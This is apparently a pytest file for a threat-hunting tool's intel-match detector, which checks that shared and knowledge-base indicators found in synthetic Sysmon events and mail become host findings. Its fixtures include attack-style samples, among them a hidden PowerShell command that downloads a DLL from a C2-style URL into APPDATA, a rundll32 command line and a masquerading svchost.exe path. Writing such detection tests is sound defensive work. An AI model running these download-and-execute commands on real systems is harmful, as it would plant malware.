"""The intel-match detector on generated Sysmon events: shared (STIX/MISP) indicators and knowledge-base
IOCs found in DNS queries, connections, hashes, file names, command lines and registry keys become
host findings that join the hunt's host/day incident; warninglisted values and a case without intel
give nothing."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from aptlink.detect.base import DetectContext
from aptlink.detect.external import ExternalIncidentDetector
from aptlink.detect.intel import IntelMatchDetector, registry_key
from aptlink.evidence.base import Item
from aptlink.exposure.assess import Asset
from aptlink.hunt.events import META_FILE, META_RECORD, META_TIME, to_table
from aptlink.kb import KnowledgeBase
from aptlink.kb.indicators import Indicator, IndicatorStore
from aptlink.model import Finding, Kind, Observation, Provenance, Severity, Verdict
from aptlink.pipeline import run_detectors

HOST = "PC042.corp.local"
LOG = "/evidence/hosts/PC042.jsonl"
SHA = "a" * 64
BAD_DLL_SHA256 = "9F3C2A7E51D84B06C3E1A92F7D5B8046E21C9A3F7B6D0E4815C2A9F3E7D1B605"
EXT_ID = "incident--0d3f7c7e-1111-5222-8333-944455556666"


def event(record: int, at: str, event_id: int, **data: str) -> dict[str, str]:
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": str(event_id),
        "Computer": HOST,
        META_FILE: LOG,
        META_RECORD: str(record),
        META_TIME: at,
        **data,
    }


EVENTS = [
    event(1, "2024-03-01T01:00:00Z", 1, Image=r"C:\Windows\System32\cmd.exe", CommandLine="dir"),
    event(2, "2024-03-01T01:00:05Z", 22, QueryName="cdn.c2-updates.net", QueryResults="1.2.3.4"),
    event(
        3,
        "2024-03-01T01:00:06Z",
        3,
        DestinationHostname="cdn.c2-updates.net",
        DestinationIp="198.51.100.23",
        DestinationPort="443",
    ),
    event(4, "2024-03-01T02:00:05Z", 22, QueryName="cdn.c2-updates.net"),
    event(5, "2024-03-01T03:00:00Z", 22, QueryName="www.google.com"),
    event(6, "2024-03-02T09:00:00Z", 22, QueryName="intranet.corp.local"),
]


def eventlog(rows: Sequence[dict[str, str]]) -> Item:
    prov = Provenance(file=LOG, sha256=SHA, record="batch 0", chain=("eventjson",))
    return Item(kind="eventlog", provenance=prov, data=to_table(rows))


def external(*values: tuple[Kind, str], actors: Sequence[str] = ()) -> Item:
    prov = Provenance(file="/evidence/intel/flash.json", sha256="b" * 64, record=EXT_ID)
    obs = tuple(Observation(kind=k, value=v, provenance=prov) for k, v in values)
    data = {
        "external_id": EXT_ID,
        "name": "ISAC flash 2024-003",
        "source": "stix",
        "claimed_actors": list(actors),
    }
    return Item(kind="external-incident", provenance=prov, data=data, observations=obs)


def inventory() -> Item:
    asset = Asset(
        name=HOST,
        vendor="Microsoft",
        product="Windows 11",
        version="22H2",
        organisation="Example Aerospace",
    )
    prov = Provenance(file="/evidence/assets/hosts.csv", sha256="c" * 64, chain=("inventory",))
    return Item(kind="inventory", provenance=prov, data=(asset,))


def sweep(items: Sequence[Item], kb: Any = None, case_dir: Path | None = None) -> list[Finding]:
    ctx = DetectContext(kb=kb, case_dir=case_dir)
    found = run_detectors(list(items), ctx, detectors=[IntelMatchDetector])
    return sorted(found, key=lambda f: (f.group_key or "", f.title))


def kb_with(*indicators: Indicator) -> KnowledgeBase:
    return KnowledgeBase(indicators=IndicatorStore(indicators))


def test_a_shared_c2_domain_in_dns_and_connections_is_a_host_finding() -> None:
    # the event log comes first: the pipeline hands external incidents to detectors before it
    items = [eventlog(EVENTS), inventory(), external((Kind.DOMAIN, "c2-updates.net"), actors=["X"])]
    (finding,) = sweep(items)
    assert finding.detector == "intel-match"
    assert finding.group_key == "host:pc042.corp.local:2024-03-01"
    assert (finding.severity, finding.verdict) == (Severity.HIGH, Verdict.MALICIOUS)
    assert finding.victim == "Example Aerospace"
    assert finding.techniques == ("T1071", "T1071.001")
    assert finding.provenance == Provenance(
        file=LOG, sha256=SHA, record="2", chain=("eventjson", "intel")
    )
    (reason,) = finding.reasons
    assert reason.code == "intel:external"
    for part in ("DNS query for c2-updates.net", EXT_ID, "ISAC flash 2024-003", "actor named: X"):
        assert part in reason.detail
    for part in (LOG, "record 2", "2024-03-01T01:00:05Z", HOST, "3 event(s) that day"):
        assert part in reason.detail
    assert "network connection to" in reason.detail
    observed = {(o.kind, o.value) for o in finding.observations}
    assert observed == {
        (Kind.DOMAIN, "c2-updates.net"),
        (Kind.DOMAIN, "cdn.c2-updates.net"),
        (Kind.HOSTNAME, "pc042.corp.local"),
    }
    assert {o.time for o in finding.observations} == {finding.time}
    assert finding.extra["events"] == 3


def test_knowledge_base_hashes_files_commands_and_registry_keys_match() -> None:
    kb = kb_with(
        Indicator(
            value=BAD_DLL_SHA256.lower(), kind=Kind.SHA256, source="eset", actor="MirrorFace"
        ),
        Indicator(value="K7SysMon.Exe.db", kind=Kind.FILE_NAME, source="eset", actor="MirrorFace"),
        Indicator(value="www.ninesmn.com", kind=Kind.DOMAIN, source="eset", actor="MirrorFace"),
        Indicator(
            value=r"HKEY_CURRENT_USER\Software\Microsoft\F12",
            kind=Kind.REGISTRY_KEY,
            source="cybereason/cuckoospear",
            actor="MirrorFace",
        ),
    )
    rows = [
        event(
            10,
            "2024-05-01T00:00:00Z",
            7,
            ImageLoaded=r"C:\Users\Public\Libraries\vsodscpl.dll",
            SHA256=BAD_DLL_SHA256,
        ),
        event(11, "2024-05-01T00:00:01Z", 11, TargetFilename=r"C:\ProgramData\K7SysMon.Exe.db"),
        event(
            12,
            "2024-05-01T00:00:02Z",
            1,
            CommandLine=r"rundll32 %APPDATA%\x.dll,Start www.ninesmn.com",
        ),
        event(
            13,
            "2024-05-01T00:00:03Z",
            13,
            TargetObject=r"HKU\S-1-5-21-3478293111-1954812331-270941711-1104\SOFTWARE\Microsoft\F12\data",
        ),
    ]
    findings = sweep([eventlog(rows)], kb=kb)
    by_kind = {Kind(f.extra["indicator_kind"]): f for f in findings}
    assert set(by_kind) == {Kind.SHA256, Kind.FILE_NAME, Kind.DOMAIN, Kind.REGISTRY_KEY}
    assert {f.group_key for f in findings} == {"host:pc042.corp.local:2024-05-01"}
    assert all(
        r.code == "intel:kb" and "MirrorFace" in r.detail for f in findings for r in f.reasons
    )
    assert by_kind[Kind.REGISTRY_KEY].techniques == ("T1112",)
    assert by_kind[Kind.REGISTRY_KEY].extra["matched_on"] == "parent key"
    assert by_kind[Kind.FILE_NAME].extra["matched_on"] == "file name"
    assert by_kind[Kind.DOMAIN].extra["matched_on"] == "domain in text"
    assert by_kind[Kind.SHA256].techniques == ()


def test_warninglisted_values_never_count() -> None:
    items = [external((Kind.DOMAIN, "google.com"), (Kind.IPV4, "8.8.8.8")), eventlog(EVENTS)]
    rows = [event(20, "2024-03-01T04:00:00Z", 3, DestinationIp="8.8.8.8", DestinationPort="53")]
    assert sweep([*items, eventlog(rows)]) == []


def test_no_intel_no_findings() -> None:
    assert sweep([eventlog(EVENTS)]) == []
    assert sweep([eventlog(EVENTS)], kb=kb_with()) == []
    assert sweep([external((Kind.DOMAIN, "c2-updates.net"))]) == []


def test_intel_already_in_the_case_is_swept_too(tmp_path: Path) -> None:
    """A host log added to a case after the ISAC's report still meets that report's indicators."""
    detector = ExternalIncidentDetector(DetectContext())
    stored = list(detector.detect(external((Kind.DOMAIN, "c2-updates.net"))))
    report = {"findings": [f.to_dict() for f in stored]}
    (tmp_path / "report.json").write_text(json.dumps(report), "utf-8")
    (finding,) = sweep([eventlog(EVENTS)], case_dir=tmp_path)
    assert EXT_ID in finding.reasons[0].detail


@pytest.mark.parametrize(
    ("published", "sysmon"),
    [
        (r"HKEY_CURRENT_USER\Software\License", r"HKU\S-1-5-21-1-2-3-1001\SOFTWARE\License"),
        (r"HKEY_LOCAL_MACHINE\Software\License", r"HKLM\SOFTWARE\License"),
        (r"KEY_CURRENT_USER\Software\X", r"HKCU\Software\x"),
    ],
)
def test_registry_keys_compare_in_one_form(published: str, sysmon: str) -> None:
    assert registry_key(published) == registry_key(sysmon)


def test_one_finding_per_indicator_host_and_day_however_many_events() -> None:
    rows = [
        event(100 + n, f"2024-03-01T05:{n // 60:02d}:{n % 60:02d}Z", 22, QueryName="c2-updates.net")
        for n in range(3000)
    ]
    (finding,) = sweep([external((Kind.DOMAIN, "c2-updates.net")), eventlog(rows)])
    assert finding.extra["events"] == 3000
    assert finding.provenance.record == "100"


def test_a_mail_carrying_a_shared_indicator_is_a_finding_of_its_own_incident() -> None:
    prov = Provenance(file="/evidence/mail/x.eml", sha256="d" * 64, chain=("email",))
    observed = [
        (Kind.EMAIL, "morimoto.kenji.jp@gmail.com"),
        (Kind.DOMAIN, "gmail.com"),  # warninglisted: never counts, even when shared
        (Kind.URL, "https://files.c2-updates.net/panel/list.zip"),
        (Kind.DOMAIN, "files.c2-updates.net"),
        (Kind.SUBJECT, "c2-updates.net"),  # not an indicator kind
    ]
    mail = Item(
        kind="mail",
        provenance=prov,
        data=SimpleNamespace(message_id="abc@mail.gmail.com"),
        observations=tuple(Observation(kind=k, value=v, provenance=prov) for k, v in observed),
    )
    shared = external(
        (Kind.DOMAIN, "c2-updates.net"),
        (Kind.EMAIL, "Morimoto.Kenji.JP@gmail.com"),
        (Kind.DOMAIN, "gmail.com"),
    )
    (finding,) = sweep([mail, shared])
    assert finding.group_key == "abc@mail.gmail.com"
    assert finding.severity is Severity.HIGH
    assert finding.extra["indicators"] == ["morimoto.kenji.jp@gmail.com", "c2-updates.net"]
    assert {(o.kind, o.value) for o in finding.observations} == {
        (Kind.EMAIL, "morimoto.kenji.jp@gmail.com"),
        (Kind.DOMAIN, "files.c2-updates.net"),
    }
    assert all(EXT_ID in r.detail for r in finding.reasons)


def test_a_shared_url_inside_a_powershell_command_line_matches() -> None:
    url = "https://docs-jpforum.com/panel/2022/list.dat"
    command = (
        f'powershell -w hidden -c "iwr {url.upper()[:8]}{url[8:]} -OutFile $env:APPDATA\\K.dll"'
    )
    rows = [event(30, "2024-06-01T00:00:00Z", 1, CommandLine=command)]
    (finding,) = sweep([external((Kind.URL, url)), eventlog(rows)])
    assert finding.extra["indicator_kind"] == str(Kind.URL)
    assert finding.extra["matched_on"] == "URL in text"
    assert finding.extra["seen"] == command
    assert (Kind.URL, url) in {(o.kind, o.value) for o in finding.observations}


def test_a_system_binary_name_in_a_report_matches_only_outside_the_system_folders() -> None:
    rows = [
        event(40, "2024-07-01T00:00:00Z", 1, Image=r"C:\Windows\System32\svchost.exe"),
        event(41, "2024-07-01T00:00:01Z", 1, Image=r"C:\Users\Public\Music\svchost.exe"),
    ]
    (finding,) = sweep([external((Kind.FILE_NAME, "svchost.exe")), eventlog(rows)])
    assert finding.extra["seen"] == r"C:\Users\Public\Music\svchost.exe"
    assert finding.extra["events"] == 1
